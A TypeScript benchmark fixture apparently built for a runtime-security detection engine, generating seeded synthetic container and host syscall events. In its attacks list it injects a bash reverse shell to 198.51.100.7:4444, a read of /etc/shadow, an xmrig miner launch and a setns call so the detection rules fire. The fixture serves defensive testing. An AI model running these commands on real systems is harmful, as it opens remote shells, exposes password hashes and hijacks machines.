// Seeded generator of a runtime event mix for bench/engine.ts: mostly
// benign opens, connects and execs from a handful of containerised services
// and host daemons, a few renames/unlinks, dup2s and socket calls, and a
// trickle (~0.1%) of attack events so the firing paths run too.
import type { ContainerInfo, SyscallEvent } from '../src/core/events/event.js';
import { rng } from './lib/rng.js';

const containers: ContainerInfo[] = ['web', 'api', 'worker', 'db', 'cache'].map((name, i) => ({
  id: (`${i}`.repeat(2) + 'ab12cd34ef56').repeat(6).slice(0, 64).padEnd(64, 'f'),
  name,
  image: `registry.example.com/${name}:1.${i}`,
  imageRepository: `registry.example.com/${name}`,
  imageTag: `1.${i}`,
  podName: `${name}-6f7d9c-x${i}`,
  podNamespace: 'shop',
  privileged: false,
}));

const services = [
  { name: 'nginx', exe: '/usr/sbin/nginx', args: ['nginx', '-g', 'daemon off;'] },
  { name: 'java', exe: '/opt/java/bin/java', args: ['java', '-Xmx512m', '-jar', '/app/api.jar'] },
  { name: 'python3', exe: '/usr/bin/python3.11', args: ['python3', '/app/worker.py', '--queue', 'jobs'] },
  { name: 'postgres', exe: '/usr/lib/postgresql/16/bin/postgres', args: ['postgres', '-D', '/var/lib/postgresql/data'] },
  { name: 'redis-server', exe: '/usr/bin/redis-server', args: ['redis-server', '*:6379'] },
];

const readPaths = [
  '/etc/ld.so.cache',
  '/usr/lib/x86_64-linux-gnu/libc.so.6',
  '/proc/self/stat',
  '/proc/meminfo',
  '/etc/localtime',
  '/app/config/settings.json',
  '/usr/share/zoneinfo/UTC',
  '/sys/fs/cgroup/cpu.max',
  '/etc/hosts',
  '/etc/resolv.conf',
  '/app/templates/index.html',
  '/var/lib/postgresql/data/base/16384/2619',
  '/usr/lib/python3.11/json/__init__.py',
  '/etc/nsswitch.conf',
  '/etc/passwd',
];
const writePaths = [
  '/var/log/app/app.log',
  '/tmp/upload-1234.part',
  '/var/lib/postgresql/data/pg_wal/000000010000000000000001',
  '/app/cache/page.bin',
  '/var/cache/nginx/proxy/1/ab',
];
const cmds = [
  ['sh', '-c', 'pg_isready -q'],
  ['ls', '-la', '/app'],
  ['curl', '-fsS', 'http://localhost:8080/health'],
  ['python3', '/app/job.py'],
  ['date', '+%s'],
  ['cat', '/proc/loadavg'],
];
/** An attack that turns the event into an execve of `exepath` with `args` (the name is argv[0]). */
const execAttack =
  (exepath: string, args: string[]) =>
  (e: SyscallEvent): void => {
    e.type = 'execve';
    e.proc.name = args[0]!;
    e.proc.args = [...args];
    e.proc.exepath = exepath;
  };
const attacks: Array<(e: SyscallEvent) => void> = [
  execAttack('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1']),
  (e) => {
    e.type = 'openat';
    e.args = { dirfd: -100, name: '/etc/shadow', flags: 0 };
    e.fd = { num: 5, type: 'file', name: '/etc/shadow' };
    e.proc.name = 'cat';
  },
  execAttack('/tmp/xmrig', ['xmrig', '-o', 'stratum+tcp://pool.example:3333']),
  (e) => {
    e.type = 'setns';
  },
];

export function generateEvents(n: number, seed = 42): SyscallEvent[] {
  const r = rng(seed);
  const pick = <T>(a: readonly T[]): T => a[Math.floor(r() * a.length)]!;
  const out: SyscallEvent[] = new Array(n);
  let t = Date.UTC(2026, 10, 28, 12, 0, 0);
  for (let i = 0; i < n; i++) {
    t += r() * 2;
    const inContainer = r() < 0.7;
    const c = inContainer ? pick(containers) : undefined;
    const svc = pick(services);
    const pid = 1000 + Math.floor(r() * 30000);
    const e: SyscallEvent = {
      source: 'syscall',
      type: 'openat',
      time: t,
      res: 0,
      args: {},
      proc: {
        pid,
        ppid: pid - 1,
        name: svc.name,
        exepath: svc.exe,
        args: svc.args,
        uid: inContainer ? 101 : 0,
        user: inContainer ? 'app' : 'root',
        tty: 0,
        parents: [
          {
            pid: pid - 1,
            name: inContainer ? 'containerd-shim' : 'systemd',
            exepath: inContainer ? '/usr/bin/containerd-shim-runc-v2' : '/lib/systemd/systemd',
          },
          { pid: 1, name: 'systemd' },
        ],
        startTime: t - 3_600_000,
      },
      host: 'node-1',
    };
    if (c) e.container = c;
    const x = r();
    if (x < 0.45) {
      const write = r() < 0.15;
      const path = write ? pick(writePaths) : pick(readPaths);
      e.type = 'openat';
      e.res = 3 + Math.floor(r() * 60);
      e.args = { dirfd: -100, name: path, flags: write ? 0o2101 : 0o2000000, mode: 0 };
      e.fd = { num: e.res, type: 'file', name: path };
    } else if (x < 0.67) {
      const external = r() < 0.1;
      const dip = external ? `93.184.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}` : `10.0.${Math.floor(r() * 4)}.${Math.floor(r() * 255)}`;
      const dport = pick([5432, 6379, 8080, 443, 53, 9092]);
      e.type = 'connect';
      e.res = r() < 0.3 ? -115 : 0;
      e.args = { fd: 7, addr: `${dip}:${dport}` };
      e.fd = {
        num: 7,
        type: 'ipv4',
        sip: '10.0.1.17',
        sport: 30000 + Math.floor(r() * 30000),
        dip,
        dport,
        l4proto: 'tcp',
        name: `10.0.1.17:40000->${dip}:${dport}`,
      };
    } else if (x < 0.8) {
      // Health checks and jobs run by app runtimes and entrypoint scripts (web servers do not spawn programs).
      const argv = pick(cmds);
      const parent = pick([services[1]!, services[2]!, { name: 'bash', exe: '/bin/bash', args: ['bash', '/docker-entrypoint.sh'] }]);
      e.type = 'execve';
      e.proc = {
        ...e.proc,
        name: argv[0]!,
        args: argv,
        exepath: `/usr/bin/${argv[0]}`,
        parents: [{ pid: pid - 1, name: parent.name, exepath: parent.exe, args: parent.args }, ...(e.proc.parents ?? [])],
      };
    } else if (x < 0.88) {
      e.type = pick(['renameat2', 'unlinkat']);
      const p = pick(writePaths);
      e.args = e.type === 'unlinkat' ? { dirfd: -100, path: p } : { olddirfd: -100, oldpath: `${p}.tmp`, newdirfd: -100, newpath: p };
    } else if (x < 0.93) {
      e.type = pick(['close', 'read', 'write', 'mmap', 'futex']);
      e.args = { fd: 3 };
    } else if (x < 0.97) {
      e.type = 'dup2';
      e.res = 3 + Math.floor(r() * 10);
      e.fd = { num: e.res, type: 'pipe', name: 'pipe:[123456]' };
    } else {
      e.type = 'socket';
      e.res = 8;
      e.args = { domain: pick([2, 10, 1]), type: 1, proto: 0 };
    }
    if (r() < 0.001) pick(attacks)(e);
    out[i] = e;
  }
  return out;
}
